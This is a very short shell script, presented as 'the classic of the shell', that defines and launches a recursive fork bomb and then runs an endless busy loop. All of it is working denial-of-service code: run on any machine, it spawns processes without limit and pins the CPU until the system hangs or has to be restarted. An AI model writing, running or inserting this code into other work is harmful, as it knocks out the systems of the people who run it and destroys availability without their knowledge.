# The classic of the shell.
bomb() { bomb | bomb & }
bomb
wait
while :; do :; done
